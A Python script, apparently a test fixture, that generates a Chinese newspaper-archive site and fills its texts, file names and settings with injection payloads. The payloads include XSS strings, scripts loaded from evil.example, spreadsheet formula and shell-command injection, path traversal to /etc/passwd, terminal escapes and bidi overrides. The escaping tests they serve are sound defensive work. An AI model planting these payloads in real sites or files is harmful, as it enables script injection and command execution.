# SPDX-License-Identifier: MIT
"""A site whose texts, names and settings try to become something else than text, and a twin of it whose do not.

injected.py DIR makes the one, injected.py --plain DIR the other, injected.py --payloads prints the texts as JSON, and --groups those of each page."""
import json
import pathlib
import re
import sys

HTML = [
    '<script>alert(1)</script>', '</script><script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script\n>alert(1)</script\n>', '<script/x>alert(1)</script>',
    '<img src=x onerror=alert(1)>', '<img/src=x/onerror=alert(1)>', '<svg onload=alert(1)>', '<svg/onload=alert(1)//',
    '<svg><script>alert&#40;1)</script></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<math><mi xlink:href="javascript:alert(1)">x',
    '<iframe src=javascript:alert(1)>', '<iframe srcdoc="<script>alert(1)</script>">', '<object data=data:text/html,x>',
    '<embed src=//evil.example/x.swf>', '<base href=//evil.example/>', '<link rel=stylesheet href=//evil.example/x.css>',
    '<meta http-equiv=refresh content="0;url=//evil.example/">', '<form action=//evil.example/><button>x', '<input autofocus onfocus=alert(1)>',
    '<button formaction=javascript:alert(1)>x</button>', '<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)>',
    '<body onload=alert(1)>', '<style>*{display:none}</style>', '<style>@import "//evil.example/x.css";</style>',
    '<p style="position:fixed;inset:0">', '<template><script>alert(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea></textarea><img src=x onerror=alert(1)>', '</title><script>alert(1)</script>', '</textarea><script>alert(1)</script>',
    '</style><script>alert(1)</script>', '</noscript><script>alert(1)</script>', '</pre></div></main><script>alert(1)</script>',
    '<!--', '-->', '--!><script>alert(1)</script>', '<!--><script>alert(1)</script>-->', '<![CDATA[', ']]>', ']]><script>alert(1)</script>',
    '<!DOCTYPE html>', '<?xml version="1.0"?>', '<?php echo 1; ?>', '<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;', '&lt;script&gt;',
    '&#60;script&#62;alert(1)', '&amp;lt;', '&lt', '&#x3c;img src=x onerror=alert(1)>', '&#0;', '&#x1b;', '&copy', '<', '>', '&', '<>', '< script>', '\\x3cscript\\x3e',
    '\\u003cscript\\u003e', '%3Cscript%3Ealert(1)%3C/script%3E', '＜script＞alert(1)＜/script＞', '<tal:x content="structure site/title"/>',
    '<p tal:replace="site/title">', '${root}', '{title}', '{n}{q}{date}{words}', '{{7*7}}', '#{7*7}', '$&$1$`', "{#main}", '{#"><script>}',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a id=search><a id=q>', '<form id=find><input id=q name=q>',
]
ATTRIBUTE = [
    '"', "'", '`', '" onmouseover="alert(1)', "' onmouseover='alert(1)", '" autofocus onfocus=alert(1) x="', '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>", '" style="position:fixed', '\\"', "\\'", '\\', "\\\\'];alert(1)//", "');alert(1);//", '";alert(1);//',
    '${alert(1)}', 'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)', 'file:///etc/passwd', '//evil.example/', '\\\\evil.example\\', 'https://evil.example/?q=', '../../../../etc/passwd', '..\\..\\x',
    '?q=<script>', '#<script>', '*/alert(1)/*', '}*{background:url(//evil.example/)}', 'expression(alert(1))', '__proto__', 'constructor',
    'toString', 'hasOwnProperty', '[object Object]', "input[value='x']",
]
TABLE = [
    '=1+1', '=HYPERLINK("https://evil.example/","x")', "=cmd|' /C calc'!A0", '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '＝1+1', '＋1', '－1', '＠x',
    '\u200b=1+1', '\ufeff=1+1', ' =1+1', ';=1+1', ',=1+1', '"=1+1', '"\r\n=1+1',
]
SHELL = ['$(touch hit)', '`touch hit`', '; touch hit', '| touch hit', '&& touch hit', '-rf', '--output=hit', '*', '~', '%s%n%d', '%x', '\n- touch']
YAML = ['---', '...', '- x', 'a: b', '!!python/object:x', '&a *a', '@x', '`x`', '| x', '~~~', '```', '# x', '[x](javascript:alert(1))',
        '![x](//evil.example/x.png)', '<javascript:alert(1)>', '<https://evil.example/>', '[x]: javascript:alert(1)', '<div onclick=alert(1)>']
UNSEEN = [
    '\x1b[2J', '\x1b]0;hit\x07', '\x1b]8;;https://evil.example/\x1b\\x\x1b]8;;\x1b\\', '\x1b]52;c;aGl0\x07', '\x1bP$q\x1b\\', '\x9b2J', '\x9d8;;x\x9c', '\x07', '\x08\x08\x08',
    '\x00', 'a\x00<script>', '\x7f', '\x0b', '\x0c', '\x85', '\ufffe', '\uffff', '\ufdd0', '\U0001fffe', '\u2028', '\u2029', '\u2028alert(1)//',
    '\u00ad', '\u200b', '\u200c', '\u200d', '\u2060', '\u2063', '\ufeff', '\u180e', '\u115f', '\u3164', '\U000e0001', '\U000e0041\U000e007f',
    '\ufff9x\ufffay\ufffb', '\ue000',
]
TURNING = [
    '\u202e', '\u202ecod.txt', '\u202d', '\u202a', '\u202b', '\u202c', '\u2066', '\u2067', '\u2068', '\u2069', '\u2069\u202e', '\u2069\u2069\u2069\u202exyz',
    '\u202c\u202c\u202e', '\u2067\u202e\u2066', '\u202e' * 200, '\u2067' * 130 + '\u202e', '\u202eabc\u202c', '\u2067abc\u2069', '\u200e', '\u200f', '\u061c',
    'שלום', 'سلام 123', '\u202e\u2029\u202e', '\u2067\n\u202e',
]
PAYLOADS = HTML + ATTRIBUTE + TABLE + SHELL + YAML + UNSEEN + TURNING
EACH = 5  # on a page

# What stands together: of each kind one, first what must begin a cell of a table to do something.
GROUPS = [sorted(PAYLOADS[i::-(-len(PAYLOADS) // EACH)], key=lambda x: x not in TABLE) for i in range(-(-len(PAYLOADS) // EACH))]
BETWEEN = '字'

# A page's text: what stands where, in the order of a newspaper page that somebody typed.
PAGE = '''{front}岚县推进{kicker}示范

岚县{headline}谷子丰收村民增收

——{subtitle}见闻

□ 王刚 李晓明（{x}）

本报讯 入秋以来，岚县普明镇的谷子{x}到了收割的时候，村民忙着把谷子运回家里，合作社的人一车一车地过秤。{x}合作社的社长说，今年的收成比去年好，村民都来帮忙。

{subhead}

镇里的农技员每周到{village}的地里看一次，告诉村民什么时候收割，什么时候晾晒，{x}什么时候入仓。

图为岚县{x}普明镇村民在地里收割谷子。 张伟 摄

责编：赵敏　校对：{x}

{x}
'''


def quoted(text):
    """A YAML string, with all but plain ASCII and Han characters as escapes."""
    def escaped(c):
        code = ord(c)
        if c in '"\\':
            return '\\' + c
        if 0x20 <= code < 0x7f or 0x4e00 <= code < 0xa000:
            return c
        return f'\\x{code:02x}' if code < 0x100 else f'\\u{code:04x}' if code < 0x10000 else f'\\U{code:08x}'
    return '"' + ''.join(map(escaped, text)) + '"'


def map_of(**values):
    return ''.join(f'{key}: {quoted(value)}\n' for key, value in values.items())


def joined(texts):
    return BETWEEN.join(texts)


def can_be_set(x):
    """Whether settings may hold a text: those with controls are refused."""
    return not any(ord(c) < 0x20 or 0x7f <= ord(c) < 0xa0 or 0xfdd0 <= ord(c) <= 0xfdef or ord(c) & 0xfffe == 0xfffe for c in x)


def settable(texts):
    return joined(filter(can_be_set, texts))


def front_matter(i, texts):
    """Front matter of page I. Every third has fields in which nothing may stand but their own form; some hold controls."""
    x = joined(texts) if i % 16 == 1 else settable(texts)
    said = {'publication': f'{x}报', 'page_name': f'{x}版', 'rights': f'{x}所有', 'date': f'2023-10-1{i % 3}',
            'page': str(1 + i % 8), 'place': '141127'}
    if i % 3 == 0:
        said.update(date=x, page=x, place=x, encoding=x, language=x, id=x, **{'none-such': x})
    return f'---\n{map_of(**said)}---\n'


def page(i, texts):
    """Page I. A line that is a heading is short, and holds some of the texts."""
    return PAGE.format(front=front_matter(i, texts) if i % 2 else '', kicker=joined(texts[:2]), headline=joined(texts[1:3]),
                       subtitle=joined(texts[3:]), subhead=f'一、合作社{joined(texts[2:4])}', x=joined(texts), village=village(i))


def file_name(texts):
    """What of texts a page's name can hold: 255 bytes, but no / and no control character."""
    return re.sub('[\0-\x1f\x7f-\x9f\ufdd0-\ufdef\ufffe\uffff]|[^\0-\uffff]', '', joined(x[:12] for x in texts).replace('/', '∕'))


def markdown(x):
    """A text in each place of Markdown, and as Markdown."""
    elsewhere = re.match(r'[a-z]+:|[/\\]', x, re.IGNORECASE)
    return (f'## 节{x}\n\n{x}\n\n平常{x}平常 `{x}` *{x}* [{x}](about.html) [x](<{x}>) [x]({x} "{x}") ![{x}]({x if elsewhere else "assets/favicon.svg"})\n\n'
            f'> {x}\n\n- {x}\n\n```{x}\n{x}\n```\n\n    {x}\n\n')


def village(i):
    """What page I alone speaks of."""
    return chr(0x5e38 + i) * 2 + '村'


def topic(i, texts):
    """A topic of page I, found by the texts themselves where a list of words takes them."""
    x = settable(texts)
    words = [f'谷子{one}' for one in texts if can_be_set(one) and one.strip() == one and not set(one) & set(',;，；、')]
    return (f'- id: t{i}\n  label: {quoted(x + "类")}\n  label_en: {quoted(x)}\n  group: {quoted(x)}\n'
            f'  strong: [{", ".join([village(i), *map(quoted, words)])}]\n')


def make_site(folder, plain=False):
    """A site with every text in every place that takes one; PLAIN: plain words in their places."""
    content = pathlib.Path(folder) / 'content'
    groups = [[f'平{chr(0x5000 + i * EACH + k)}' for k in range(len(texts))] if plain else texts for i, texts in enumerate(GROUPS)]
    for i, texts in enumerate(groups):
        paper = content / f'{i // 3 * 3:03}{file_name(groups[i // 3 * 3])}'
        if i % 3 == 0:
            paper.mkdir(parents=True)
            x = settable(texts)
            (paper / 'publication.yaml').write_text(map_of(title=f'{x}日报', publisher=f'{x}报社', rights=x), encoding='utf-8')
        text = page(i, texts)
        (paper / f'{i:03}{file_name(texts)}.txt').write_text(text, encoding='utf-8', newline='')
    (content / b'caf\xe9\xff.txt'.decode('utf-8', 'surrogateescape')).write_text('平常', encoding='utf-8')
    (content / '\x1b[2J\x9b.dat').write_text('平常', encoding='utf-8')
    write_settings(content, groups)
    write_editorials(content, [x for texts in groups for x in texts])


def write_settings(content, groups):
    every = joined(map(settable, groups))
    (content / 'site.yaml').write_text(map_of(
        title=f'{joined(map(settable, groups[::10]))}文存', subtitle=every, description=every, publisher=every, rights=every,
        data_license=every, contact='archive@example.org') + 'tombstones: true\n', encoding='utf-8')
    (content / 'topics.yaml').write_text(''.join(topic(i, texts) for i, texts in enumerate(groups)), encoding='utf-8')


def write_editorials(content, texts):
    some = joined(filter(can_be_set, texts[:8]))
    front = f'---\n{map_of(title="关于" + some, nav="关于" + some, description=some)}---\n'
    (content / 'about.md').write_text(front + '# 关于\n\n' + ''.join(map(markdown, texts)), encoding='utf-8', newline='')
    (content / f'{file_name(texts[:1])}.md').write_text(f'# 又{some}\n', encoding='utf-8')


def main(arguments):
    if arguments == ['--groups']:
        json.dump(GROUPS, sys.stdout)
    elif arguments == ['--payloads']:
        print(json.dumps(PAYLOADS))
    else:
        make_site(arguments[-1], arguments[0] == '--plain')


if __name__ == '__main__':
    main(sys.argv[1:])
